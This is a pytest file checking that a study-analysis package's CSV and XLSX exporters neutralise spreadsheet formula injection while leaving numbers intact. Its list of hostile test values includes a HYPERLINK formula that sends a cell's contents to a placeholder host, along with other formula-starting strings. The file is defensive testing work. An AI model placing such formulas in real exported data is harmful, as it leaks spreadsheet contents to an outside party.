"""Formula injection: text cells that a spreadsheet would run are neutralised in every CSV and XLSX."""
from __future__ import annotations

import pandas as pd
import pytest
from disclosure_scan import formula_cells
from fixture_project import FIXTURE_STUDIES
from openpyxl import load_workbook

from icevidence import SampleTables, ThemeMatrix, load_study
from icevidence.analyses.result import Table
from icevidence.present.csv import write_csv
from icevidence.present.escape import FORMULA_STARTS, neutralise
from icevidence.present.xlsx import write_workbook

HOSTILE = ['=HYPERLINK("http://example.invalid/?leak="&A1,"click")', "+cmd", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]


@pytest.mark.parametrize("value", HOSTILE)
def test_text_starting_a_formula_gets_an_apostrophe(value):
    assert neutralise(value) == "'" + value


def test_numbers_and_plain_text_are_left_alone():
    assert neutralise(-3) == -3 and neutralise(2.5) == 2.5 and neutralise("Nurse") == "Nurse"


def frame() -> pd.DataFrame:
    return pd.DataFrame({"=label": HOSTILE, "n": range(len(HOSTILE)), "delta": [-1.5] * len(HOSTILE)},
                        index=pd.Index([f"=row{i}" for i in range(len(HOSTILE))], name="@key"))


def test_csv_cells_labels_and_names_are_neutralised(tmp_path):
    written = pd.read_csv(write_csv(frame(), tmp_path / "t.csv"), dtype=str, keep_default_na=False)
    cells = [*written.columns, *written.drop(columns=["n", "delta"]).to_numpy().ravel()]
    assert not [c for c in cells if c.startswith(FORMULA_STARTS)]
    assert list(written["delta"]) == ["-1.5"] * len(HOSTILE)


def test_xlsx_has_no_formula_cell_and_keeps_numbers_numeric(tmp_path):
    xlsx = write_workbook(tmp_path / "t.xlsx", [Table("t", "=caption", frame(), notes=["-note"], index=True)])
    sheet = load_workbook(xlsx)["t"]
    assert formula_cells(xlsx) == []
    texts = [c.value for row in sheet.iter_rows() for c in row if c.data_type == "s"]
    assert not [t for t in texts if t.startswith(FORMULA_STARTS)]
    numbers = [c.value for row in sheet.iter_rows() for c in row if c.data_type == "n" and c.value is not None]
    assert -1.5 in numbers and 5 in numbers


def test_hostile_study_tables_are_written_without_formulas(tmp_path):
    study = load_study("hostile", root=FIXTURE_STUDIES)
    paths = SampleTables(study).write(tmp_path / "sample") + ThemeMatrix(study, "sub").write(tmp_path / "matrix")
    assert [c for p in paths if p.suffix == ".xlsx" for c in formula_cells(p)] == []
    for path in (p for p in paths if p.suffix == ".csv"):
        cells = pd.read_csv(path, dtype=str, keep_default_na=False, header=None).to_numpy().ravel()
        assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))], path.name
        assert not [c for c in cells if c.startswith("-") and not c.lstrip("-").replace(".", "").isdigit()], path.name
